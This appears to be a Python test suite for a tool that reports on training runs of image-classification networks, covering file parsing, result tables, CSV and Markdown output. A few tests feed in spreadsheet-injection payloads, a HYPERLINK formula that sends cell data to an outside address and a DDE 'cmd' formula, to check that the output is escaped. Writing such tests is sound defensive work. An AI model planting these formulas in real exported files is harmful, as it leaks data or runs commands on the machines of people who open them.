#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Tests of the report on handwritten runs: what is read, the tables, and the program. The page is tested in
report_page_test.py, the statistics in report_statistics_test.py."""

import csv
import io
import json
import math
import os
import pathlib
import re
import shutil
import unittest

from handwritten_runs import ReportCase, edit_lines, make_not_finite, make_run, write_lines

import report_csv
import report_paper
import report_runs
import report_tables
import report_text


def markdown(rows_of):
    return report_text.markdown(report_text.tables(rows_of))


class ReadingTest(ReportCase):
    def test_beginnings_are_no_results(self):
        self.original(0.9, 1)
        make_run(self.folder / "beginnings" / "one", 0.8, selection="none", seed=5)
        collection = self.collect()
        self.assertEqual(([run.seed for run in collection.completed], collection.beginnings), ([1], 1))

    def test_a_folder_that_is_named_twice_counts_once(self):
        path = self.original(0.9, 1)
        (self.folder / "link").symlink_to("cells")
        link = self.folder / "link"
        for folders in (
            [path, self.folder, path],
            [link, self.folder],
            [self.folder / "cells" / "..", link / path.name],
        ):
            collection = report_runs.collect(folders)
            self.assertEqual((len(collection.completed), collection.repeated), (1, []), folders)

    def test_incomplete_runs_are_told(self):
        self.original(0.9, 1)
        (self.original(0.8, 2) / "summary.json").unlink()
        self.run_folder(0.7, seed=3, completed=False)
        begun = self.original(0.8, 4)
        (begun / "summary.json").unlink()
        (begun / "metrics.jsonl").unlink()
        torn = self.original(0.8, 5)
        (torn / "summary.json").unlink()
        (torn / "metrics.jsonl").write_bytes((torn / "metrics.jsonl").read_bytes()[:-9])
        collection = self.collect()
        self.assertEqual(len(collection.completed), 1)
        whys = [why for _, why in collection.incomplete]
        self.assertEqual([why[: why.index("epochs")] for why in whys], ["6 of 6 ", "6 of 6 ", "0 of 6 ", "5 of 6 "])
        self.assertIn("was stopped", whys[1])

    def test_an_older_runs_validation_is_not_taken_for_the_test(self):
        self.original(0.9, 1, validation=0.9)
        old = self.original(0.99, 2, validation=0.9)
        lines = [json.loads(line) for line in (old / "metrics.jsonl").read_text().splitlines()]
        write_lines(old / "metrics.jsonl", [{k: v for k, v in line.items() if "valid" not in k} for line in lines])
        collection = self.collect()
        self.assertEqual(len(collection.completed), 1)
        self.assertIn("instead of the test images", collection.incomplete[0][1])

    def test_the_same_run_twice_counts_once(self):
        self.original(0.9, 1)
        self.original(0.9, 1, threads=7)
        self.original(0.9, 1, threshold=2.5, measure="g-prime")  # these have no effect if nothing is selected
        self.original(0.91, 1, weight_decay=0.001)
        collection = self.collect()
        self.assertEqual((len(collection.completed), len(collection.repeated)), (2, 2))

    def test_the_kinds_of_the_first_release_are_those_of_the_page(self):
        page = (pathlib.Path(__file__).parents[2] / "tools" / "settings" / "README.md").read_text(encoding="utf-8")
        rows = re.findall(r"^\| `--([a-z-]+)` .*\| ([a-z]+) \| 0\.1\.0 \|", page, re.MULTILINE)
        self.assertEqual({name.replace("-", "_"): kind for name, kind in rows}, report_runs.FIRST_KINDS)

    def test_the_newer_settings_are_those_of_the_page(self):
        page = (pathlib.Path(__file__).parents[2] / "tools" / "settings" / "README.md").read_text(encoding="utf-8")
        row = r"^\| `--([a-z0-9-]+)` .*\| (?:`(.*)`)? \| ([a-z]+) \| (\d+\.\d+\.\d+) \|"
        rows = re.findall(row, page, re.MULTILINE)
        texts = {"false": False, "true": True}
        newer = {name.replace("-", "_"): (kind, value) for name, value, kind, since in rows if since != "0.1.0"}
        self.assertEqual(newer.keys(), report_runs.NEWER.keys())
        for name, (kind, value) in report_runs.NEWER.items():
            text = newer[name][1]
            default = text if isinstance(value, str) else texts[text] if isinstance(value, bool) else float(text)
            self.assertEqual(newer[name][0], kind, name)
            self.assertEqual(default, value, name)

    def test_a_run_of_the_first_release_has_the_defaults_of_newer_settings(self):
        self.original(0.9, 1)
        self.original(0.9, 1, cutout=0, label_smoothing=0, shards=1, optimizer="sgd", conv="auto", decay_norm_bias=True)
        self.original(0.9, 1, cutout=8)
        collection = self.collect()
        self.assertEqual((len(collection.completed), len(collection.repeated)), (2, 1))

    def test_the_kind_of_a_setting_decides_whether_it_is_a_difference(self):
        for kind, count in (("speed", 1), ("output", 1), ("logging", 1), ("schedule", 1), ("measured", 1),
                            ("training", 2), ("new", 2)):
            for value in (1, 2):
                run = self.run_folder(0.9, selection="none", invented=value, train_images=len(kind))
                config = json.loads((run / "config.json").read_text())
                config["kinds"] = report_runs.FIRST_KINDS | {"invented": kind}
                (run / "config.json").write_text(json.dumps(config))
            runs = [run for run in self.collect().completed if run.settings["train_images"] == len(kind)]
            self.assertEqual(len(runs), count, kind)
            shutil.rmtree(self.folder / "cells")

    def test_damaged_files_are_one_line_each(self):
        def text(name, content):
            return lambda path: (path / name).write_text(content)

        def edit(name, change):
            return lambda path: (path / name).write_text(change((path / name).read_text()))

        def replace(name, make):
            return lambda path: ((path / name).unlink(), make(path / name))

        def loop(path):
            path.symlink_to(path.name)

        for spoil, expected in [
            (lambda path: (path / "config.json").unlink(), "config.json: cannot be read"),
            (text("config.json", '{"settings": {'), "config.json: cannot be read"),
            (text("config.json", "{}"), "has no 'settings'"),
            (text("config.json", "[1]"), "expected an object"),
            (edit("config.json", lambda t: t.replace('"seed"', '"sed"')), "has no 'seed'"),
            (text("summary.json", ""), "summary.json: cannot be read"),
            (edit("summary.json", lambda t: t.replace("0.9", "0.8")), "is not that of the last line"),
            (edit("metrics.jsonl", lambda t: t.replace("{", "", 1)), "metrics.jsonl: line 1"),
            (edit("metrics.jsonl", lambda t: t.split("\n", 1)[1]), "expected the epochs 1 to 6"),
            (edit("metrics.jsonl", lambda t: t.replace('"test_accuracy"', '"x"', 1)), "line 1 has no 'test_accuracy'"),
            (edit("metrics.jsonl", lambda t: t.replace("0.1,", "null,", 1)), "expected a number, got null"),
            (
                edit("metrics.jsonl", lambda t: t.replace("0.1,", '"nan",', 1)),
                "learning_rate: expected a finite number",
            ),
            (edit("layers.jsonl", lambda t: t.replace('"g_prime"', '"x"', 1)), "layers.jsonl: line 1 has no 'g_prime'"),
            (lambda path: (path / "layers.jsonl").unlink(), "layers.jsonl: cannot be read"),
            (text("config.json", '{"a":' * 200000), "config.json: cannot be read: its values are nested too deeply"),
            (text("metrics.jsonl", "[" * 200000 + "\n"), "line 1: its values are nested too deeply"),
            (text("metrics.jsonl", "[1]\n"), "line 1: expected an object, got a list"),
            (edit("metrics.jsonl", lambda t: t.replace('"epoch": 1,', '"epoch": null,')), "whole number, got null"),
            (edit("metrics.jsonl", lambda t: t.replace('"epoch": 1,', '"epoch": Infinity,')), "got Infinity"),
            (edit("metrics.jsonl", lambda t: t.replace("0.1,", "1" * 400 + ",", 1)), "expected a number, got 1111"),
            (edit("config.json", lambda t: t.replace('"resnet18"', "{}")), "network: expected a text, a number"),
            (edit("config.json", lambda t: t.replace('"resnet18"', "18")), "network: expected a text, got 18"),
            (edit("config.json", lambda t: t.replace('"seed": 1', '"seed": "1"')), "seed: expected a whole number"),
            (edit("config.json", lambda t: t.replace('"threshold": 1.0', '"threshold": NaN')), "threshold: expected"),
            (edit("layers.jsonl", lambda t: t.replace('"conv1"', "[]", 1)), "line 1: expected a text, got a list"),
            (replace("summary.json", loop), "summary.json: cannot be read: Too many levels"),  # not "incomplete"
            (replace("metrics.jsonl", loop), "metrics.jsonl: cannot be read: Too many levels"),
            (replace("metrics.jsonl", os.mkfifo), "metrics.jsonl: cannot be read: expected a regular file"),
            (replace("config.json", os.mkdir), "config.json: cannot be read: expected a regular file"),
            (text("config.json", " " * 2**24 + "{}"), "config.json: cannot be read: expected at most 16777216 bytes"),
        ]:
            path = self.amplified(0.9, 1, 1.0)
            spoil(path)
            damaged = report_runs.collect([path]).damaged
            self.assertEqual(len(damaged), 1, expected)
            self.assertIn(expected, damaged[0])
            self.assertIn(str(path), damaged[0])
            self.assertNotIn("\n", damaged[0])

    def test_columns(self):
        paths = [
            self.original(0.9, 1),
            self.run_folder(0.9, seed=2, analyzed=(), amplified=()),  # its strategy never amplifies
            self.run_folder(0.9, selection="random"),
            self.run_folder(0.9, measure="g-prime", case="2"),
        ]
        columns = [report_runs.read_run(path).column for path in paths]
        self.assertEqual(columns, ["original", "original", "random", "g-prime-2"])
        self.assertEqual(report_runs.read_run(paths[2]).choice, (0.5, "conv"))

    def test_numbers_that_json_has_not(self):
        one = {"schema": 1, "x": 0.5, "none": None, "n": "nan", "p": "inf", "m": "-inf"}
        two = {"schema": 2, "x": 0.5, "none": None, "n": None, "p": None, "m": None}
        two["not_finite"] = {"n": "nan", "p": "inf", "m": "-inf"}
        for record in (one, two):
            self.assertEqual(report_runs.number_in(record, "x"), 0.5)
            self.assertTrue(math.isnan(report_runs.number_in(record, "n")))
            self.assertEqual(report_runs.number_in(record, "p"), math.inf)
            self.assertEqual(report_runs.optional_number_in(record, "m"), -math.inf)
            self.assertIsNone(report_runs.optional_number_in(record, "none"))
            with self.assertRaisesRegex(ValueError, "none: expected a number, got null without a reason"):
                report_runs.number_in(record, "none")
            with self.assertRaises(KeyError):
                report_runs.optional_number_in(record, "missing")
        for record in (
            {"x": True},
            {"x": "many"},
            {"x": []},
            {"x": "nan", "schema": 2},
            {"x": None, "not_finite": []},
            {"x": None, "not_finite": {"x": 5}},
            {"x": None, "not_finite": {"x": ["nan"]}},
        ):
            with self.assertRaises(ValueError, msg=record):
                report_runs.optional_number_in(record, "x")

    def test_both_schemas_give_the_same_run(self):
        runs = []
        for schema in (1, 2):
            run = self.amplified(0.9, 1, 1.0, validation=0.9)
            for name in ("config.json", "metrics.jsonl", "layers.jsonl", "summary.json"):
                edit_lines(run / name, lambda record: record.update(schema=schema))
            make_not_finite(run, "metrics.jsonl", schema, "train_accuracy", "inf")
            make_not_finite(run, "layers.jsonl", schema, "g", "-inf")
            runs.append(report_runs.read_run(run))
        self.assertEqual(runs[0].epochs, runs[1].epochs)
        self.assertEqual(runs[0].layers, runs[1].layers)
        self.assertEqual({epoch["train_accuracy"] for epoch in runs[0].epochs}, {math.inf})
        self.assertEqual({layer["g"] for layer in runs[0].layers}, {-math.inf})

    def test_files_of_a_later_release_are_refused(self):
        for name in ("config.json", "metrics.jsonl", "layers.jsonl", "summary.json"):
            for schema, said in ((3, "has schema 3: this release reads only up to schema 2"), (0, "has schema 0")):
                run = self.amplified(0.9, 1, 1.0)
                edit_lines(run / name, lambda record: record.update(schema=schema))
                (damaged,) = report_runs.collect([run]).damaged
                self.assertIn(f"{run / name}: ", damaged)
                self.assertIn(said, damaged)


class TablesTest(ReportCase):
    def test_the_two_choices_differ(self):
        for seed in (1, 2):
            self.original(0.90, seed, validation=0.90)
            self.amplified(0.95, seed, 0.7, validation=0.91)  # best on the test set
            self.amplified(0.93, seed, 1.3, validation=0.94)  # best on the validation part
        (row,) = self.rows()
        biased, unbiased = report_tables.best_on_test(row, "g-1"), report_tables.best_by_validation(row, "g-1")
        self.assertEqual((biased.choice, unbiased.choice), (0.7, 1.3))
        self.assertAlmostEqual(biased.estimate.mean, 95)
        self.assertAlmostEqual(unbiased.estimate.mean, 93)
        self.assertAlmostEqual(unbiased.validation, 94)
        self.assertAlmostEqual(unbiased.difference.mean, 3)
        self.assertEqual(biased.choices, 2)
        self.assertEqual(report_tables.shown_choice(row, "g-1"), 1.3)

    def test_validation_is_the_last_epochs(self):
        self.original(0.9, 1, validation=0.5)  # 0.99 in the epochs before
        self.assertEqual(self.rows()[0].original[0].validation_accuracy, 50)

    def test_without_validation_only_the_biased_figure(self):
        self.original(0.90, 1)
        self.amplified(0.95, 1, 0.7)
        table = report_text.accuracy_table("cifar10", self.rows())
        self.assertEqual([figure for _, figure, _ in table.rows], [report_text.ONLY, "paper"])  # nothing is chosen
        self.assertEqual(table.notes, [])
        self.amplified(0.94, 1, 1.0)
        rows = self.rows()
        self.assertIsNone(report_tables.best_by_validation(rows[0], "g-1"))
        table = report_text.accuracy_table("cifar10", rows)
        self.assertEqual([figure for _, figure, _ in table.rows], [report_text.BIASED, "paper"])
        self.assertIn(f"resnet18: {report_text.NO_VALIDATION}.", table.notes)

    def test_of_equal_thresholds_the_lowest(self):
        for threshold in (1.5, 0.7, 1.1):  # the same values, but their order makes a plain sum smaller
            values = (0.9, 0.9011, 0.9117) if threshold != 0.7 else (0.9117, 0.9011, 0.9)
            for seed, value in enumerate(values, 1):
                self.amplified(value, seed, threshold, validation=0.9)
        (row,) = self.rows()
        self.assertEqual(report_tables.best_on_test(row, "g-1").choice, 0.7)
        self.assertEqual(report_tables.best_by_validation(row, "g-1").choice, 0.7)

    def test_missing_seeds(self):
        for seed in (1, 2, 3):
            self.original(0.90 + 0.01 * seed, seed)
        self.amplified(0.94, 2, 0.7)
        self.amplified(0.95, 2, 0.8)
        self.amplified(0.97, 3, 0.8)
        (row,) = self.rows()
        one, two = report_tables.every_choice(row, "g-1")
        self.assertEqual((one.estimate.n, one.estimate.low, one.difference.paired), (1, None, True))
        self.assertAlmostEqual(one.difference.mean, 94 - 92)  # of seed 2
        self.assertEqual((two.estimate.n, two.difference.paired, two.difference.n), (2, True, 2))
        self.assertAlmostEqual(two.difference.mean, 96 - 92.5)
        self.assertEqual(
            report_tables.uneven(row), ["resnet18, G, case 1: fewer than 2 runs at 0.7 (1), so not chosen from."]
        )

    def test_thresholds_are_chosen_among_those_with_all_seeds(self):
        for seed in (1, 2, 3):
            self.original(0.90, seed, validation=0.9)
            self.amplified(0.93, seed, 0.8, validation=0.92)
        self.amplified(0.99, 1, 0.7, validation=0.99)  # the best, but its bad seeds are missing
        self.amplified(0.97, 2, 0.9, validation=0.97)
        self.amplified(0.98, 3, 0.9, validation=0.98)
        (row,) = self.rows()
        for best in (report_tables.best_on_test(row, "g-1"), report_tables.best_by_validation(row, "g-1")):
            self.assertEqual((best.choice, best.choices, best.estimate.n), (0.8, 1, 3))
        self.assertEqual(len(report_tables.every_choice(row, "g-1")), 3)

    def test_if_no_threshold_has_all_seeds_those_with_the_most_are_chosen_among(self):
        for seed, threshold in ((1, 0.7), (2, 0.7), (2, 0.8), (3, 0.8), (4, 0.9)):
            self.amplified(0.9 + 0.01 * seed, seed, threshold)
        (row,) = self.rows()
        best = report_tables.best_on_test(row, "g-1")
        self.assertEqual((best.choice, best.choices), (0.8, 2))

    def test_curves_are_of_common_seeds(self):
        for seed in (1, 2, 3):
            self.original(0.90 + 0.01 * seed, seed)
        for seed in (2, 3, 4):
            self.amplified(0.94, seed, 0.7)
        runs, originals = report_tables.common_seeds(self.rows()[0], "g-1")
        self.assertEqual([[run.seed for run in group] for group in (runs, originals)], [[2, 3], [2, 3]])

    def test_the_number_of_test_images(self):
        for expected, test, settings in (
            (10_000, 0.9, {}),
            (2_000, 0.9, {"dataset": "made"}),
            (5_000, 0.9, {"test_images": 5_000}),
            (750, 1 / 750, {"dataset": "own", "epochs": 1}),  # the smallest number that gives this accuracy
            (None, 0.1234567890123, {"dataset": "own", "epochs": 1}),
        ):
            self.assertEqual(report_runs.read_run(self.original(test, 1, **settings)).test_images, expected)

    def test_the_cost_of_an_analyzed_epoch(self):
        for seed, factor in ((1, 1), (2, 2)):
            run = self.amplified(0.9, seed, 0.7, seconds=60 * factor)

            def change(line):
                if line["epoch"] == 1:
                    line["seconds"] = 99.0  # is left out
                elif line["analyzed"]:
                    line["seconds"] *= 1.5

            edit_lines(run / "metrics.jsonl", change)
        self.original(0.9, 1)
        (row,) = self.rows()
        cost = report_tables.epoch_cost(row, "g-1")
        self.assertEqual((cost.plain, cost.amplified, cost.analyzed, cost.runs), (15, 15, 22.5, 2))
        self.assertAlmostEqual(cost.ratio, 1.5)
        self.assertIsNone(report_tables.epoch_cost(row, "original"))
        (line,) = report_text.cost_table("cifar10", [row]).rows
        self.assertEqual([cell.lines[0] for cell in line[2]], ["15 s", "15 s", "22.5 s", "1.500", "2"])

    def test_without_originals_no_difference(self):
        self.amplified(0.94, 1, 0.7)
        self.assertIsNone(report_tables.best_on_test(self.rows()[0], "g-1").difference)

    def test_what_differs_is_not_thrown_together(self):
        for decay in (0.0005, 0.001):
            self.original(0.9 + 10 * decay, 1, weight_decay=decay)
            self.amplified(0.95, 1, 1.0, weight_decay=decay)
        rows = self.rows()
        self.assertEqual([row.label for row in rows], [f"resnet18 (weight_decay {d})" for d in (0.0005, 0.001)])
        self.assertEqual([len(row.original) for row in rows], [1, 1])

    def test_ways_of_amplifying_share_their_originals(self):
        self.original(0.90, 1)
        self.run_folder(0.92, selection="random")
        for granularity in ("weight", "neuron"):
            self.amplified(0.95, 1, 1.0, granularity=granularity)
        rows = self.rows()
        self.assertEqual(
            [row.label for row in rows], ["resnet18 (granularity weight)", "resnet18 (granularity neuron)"]
        )
        self.assertEqual([list(row.columns) for row in rows], [["original", "random", "g-1"]] * 2)

    def test_datasets_and_networks_in_order(self):
        for network in ("resnet110", "vgg19", "resnet20"):
            self.original(0.9, 1, network=network)
        self.original(0.5, 1, dataset="cifar100")
        self.assertEqual([row.label for row in self.rows()], ["vgg19", "resnet20", "resnet110"])
        self.assertEqual([row.label for row in self.rows("cifar100")], ["resnet18"])

    def test_the_best_random_selection(self):
        self.run_folder(0.92, selection="random", random_fraction=0.25)
        self.run_folder(0.93, selection="random", random_fraction=0.5)
        cell = report_tables.best_on_test(self.rows()[0], "random")
        self.assertEqual((cell.choice, cell.choices), ((0.5, "conv"), 2))
        self.assertIn("50% of conv (of 2)", report_text.accuracy_entry(cell).lines)

    def test_minutes(self):
        self.original(0.9, 1, seconds=60)
        self.original(0.9, 2, seconds=120)
        self.amplified(0.9, 1, 0.7, seconds=99)
        (row,) = self.rows()
        self.assertAlmostEqual(report_tables.minutes(row, "original").estimate.mean, 1.5)
        self.assertIsNone(report_tables.minutes(row, "original").ratio)
        self.assertAlmostEqual(report_tables.minutes(row, "g-1").ratio, 1.1)
        self.assertIsNone(report_tables.minutes(row, "random"))

    def test_text_of_a_cell(self):
        for seed, test in ((1, 0.93), (2, 0.95)):
            self.original(0.92, seed)
            self.amplified(test, seed, 0.7)
        table = report_text.accuracy_table("cifar10", self.rows())
        best = report_tables.best_on_test(self.rows()[0], "g-1")
        self.assertEqual(best.estimate.high, 100)
        cell = table.rows[0][2][2]
        self.assertEqual(cell.texts(), ["94.00% ± 1.41", "+2.00 (−10.71 to +8.00)", "threshold 0.7", "seeds 1, 2"])
        self.assertEqual(table.rows[0][2][1].texts(), ["–"])
        self.assertEqual(table.rows[1][:2], ("resnet18", "paper"))
        paper = [list(cell.lines) for cell in table.rows[1][2]]
        expected = [("94.57", "+2.18"), ("93.90", "+1.51"), ("93.76", "+1.37"), ("94.49", "+2.10"), ("94.10", "+1.71")]
        self.assertEqual(paper, [["92.39"], *map(list, expected)])
        self.assertIn("Table 3", " ".join(table.caption))

    def test_columns_that_were_not_run_are_left_out_unless_the_paper_has_them(self):
        for network, expected in (
            ("resnet8", ["original", "G, case 1"]),
            ("resnet18", [*report_tables.COLUMNS.values()]),
        ):
            self.original(0.9, 1, network=network)
            self.amplified(0.9, 1, 0.7, network=network)
            rows = [row for row in self.rows() if row.network == network]
            for table in (report_text.accuracy_table("cifar10", rows), report_text.minutes_table("cifar10", rows)):
                self.assertEqual(table.head[2:], expected)
                self.assertTrue(all(len(cells) == len(expected) for _, _, cells in table.rows))

    def test_markdown_and_csv_say_the_same(self):
        for seed in (1, 2):
            self.original(0.92, seed, validation=0.91)
            self.amplified(0.94, seed, 0.7, validation=0.91)
            self.amplified(0.93, seed, 0.8, validation=0.95)
        rows_of = report_tables.make_rows(self.collect().completed)
        records = list(csv.DictReader(io.StringIO(report_csv.comma_separated(rows_of))))
        rules = [record["rule"] for record in records if record["column"] == "g-1"]
        self.assertEqual(rules, ["best on test", "by validation", "each", "each", "all runs"])
        best, by_validation = [record for record in records if record["column"] == "g-1"][:2]
        self.assertAlmostEqual(float(best["mean"]), 94)
        self.assertAlmostEqual(float(by_validation["mean"]), 93)
        self.assertEqual((best["paper"], by_validation["paper"], best["paired"]), ("93.9", "", "True"))
        text = markdown(rows_of)
        widths = {line.count("|") for line in text.split("## ")[1].splitlines() if line.startswith("|")}
        self.assertEqual(widths, {9})
        self.assertIn("| resnet18 | chosen on held-out images | 92.00% ± 0.00", text)
        self.assertIn("| resnet18 | best on test (biased) | as above |", text)

    def test_a_validation_that_is_no_number_is_not_chosen(self):
        for threshold in (0.7, 0.8, 0.9):
            run = self.amplified(0.94, 1, threshold, validation=0.95 if threshold < 0.9 else 0.91)
            if threshold < 0.9:
                make_not_finite(run, "metrics.jsonl", 2, "validation_accuracy", "nan")
        (row,) = self.rows()
        self.assertEqual(report_tables.best_by_validation(row, "g-1").choice, 0.9)

    def test_numbers_that_are_not_finite_have_a_reason_in_the_csv(self):
        make_not_finite(self.original(0.9, 1, validation=0.9), "metrics.jsonl", 2, "validation_accuracy", "nan")
        make_not_finite(self.original(0.9, 2, validation=0.9), "metrics.jsonl", 2, "seconds", "inf")
        rows_of = report_tables.make_rows(self.collect().completed)
        accuracy, *_, minutes = csv.DictReader(io.StringIO(report_csv.comma_separated(rows_of)))
        self.assertEqual((accuracy["mean"], accuracy["validation_mean"]), ("90.0", ""))
        self.assertEqual(accuracy["not_finite"], "validation_mean=nan")
        self.assertEqual((minutes["mean"], minutes["low95"]), ("", ""))
        self.assertEqual(minutes["not_finite"], "mean=inf deviation=nan low95=nan high95=nan")
        text = markdown(rows_of)
        self.assertIn("| nan |", text)  # the mean validation accuracy
        self.assertIn("| inf ± nan min<br>2 runs |", text)

    def test_names_are_escaped_in_markdown(self):
        self.original(0.9, 1, network="<b>|*x*\n# y\x1b[2J\ud800")
        text = markdown(report_tables.make_rows(self.collect().completed))
        name = r"\<b\>\|\*x\*\\n\# y\\x1b\[2J\\ud800"
        self.assertIn(f"| {name} | at the only threshold | 90.00%", text)
        self.assertNotIn("\x1b", text)

    def test_a_spreadsheet_computes_no_name(self):
        formula = '=HYPERLINK("http://a.b?"&A1,"x")'
        for name in (formula, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1", "\uff1d1", "=", "-", "-1_0"):
            self.assertEqual(report_csv.plain(name), "'" + name)
        for value in ("resnet18", "a=b", "", "50% of conv", "0.7", "-0.7", "+1e-05", "-.5", -0.5, None, True):
            self.assertEqual(report_csv.plain(value), value)

    def test_names_are_escaped_in_csv(self):
        self.original(0.9, 1, network="=1+1", dataset="@d")
        self.original(0.9, 1, network="resnet8", weights="=cmd|' /C calc'!A0")
        rows_of = report_tables.make_rows(self.collect().completed)
        records = list(csv.DictReader(io.StringIO(report_csv.comma_separated(rows_of))))
        self.assertEqual(
            {(r["dataset"], r["network"], r["row"]) for r in records if r["network"] != "resnet8"},
            {("'@d", "'=1+1", "'=1+1")},
        )
        for record in records:
            for value in record.values():
                self.assertFalse(value.startswith(("=", "+", "@")), record)
            self.assertEqual(record["threshold_or_choice"], "")

    def test_a_cell_is_computed_once(self):
        for seed in (1, 2):
            self.original(0.92, seed, validation=0.91)
            for threshold in (0.7, 0.8, 0.9):
                self.amplified(0.94, seed, threshold, validation=0.91)
        rows_of = report_tables.make_rows(self.collect().completed)
        computed = []
        make_cell = report_tables.make_cell
        report_tables.make_cell = lambda row, column, choice: computed.append(choice) or make_cell(row, column, choice)
        try:
            report_csv.comma_separated(rows_of)
            markdown(rows_of)
        finally:
            report_tables.make_cell = make_cell
        self.assertEqual(sorted(computed, key=str), [0.7, 0.8, 0.9, None])

    def test_the_papers_tables(self):
        for table in (report_paper.ACCURACY, report_paper.MINUTES):
            for dataset in table.values():
                self.assertEqual(set(dataset), {"vgg19", "resnet18", "resnet34", "resnet50", "resnet101"})
                self.assertTrue(all(len(row) == 6 for row in dataset.values()))
        self.assertEqual(report_paper.figure(report_paper.ACCURACY, "cifar100", "resnet101", "g-prime-2"), 77.63)
        self.assertIsNone(report_paper.figure(report_paper.MINUTES, "cifar10", "resnet18", "random"))
        self.assertIsNone(report_paper.figure(report_paper.ACCURACY, "synthetic", "resnet18", "g-1"))
        self.assertEqual(report_paper.COLUMNS, tuple(report_tables.COLUMNS))


class ProgramTest(ReportCase):
    def test_nothing_to_report(self):
        code, _, errors = self.call(self.folder)
        self.assertEqual(code, 1)
        self.assertIn("no completed run", errors)
        code, _, errors = self.call(self.folder / "nowhere")
        self.assertEqual((code, errors.count("\n")), (1, 1))
        self.assertIn("no such folder", errors)

    def test_wrong_usage(self):
        with self.assertRaises(SystemExit) as raised:
            self.call()
        self.assertEqual(raised.exception.code, 2)


if __name__ == "__main__":
    unittest.main()
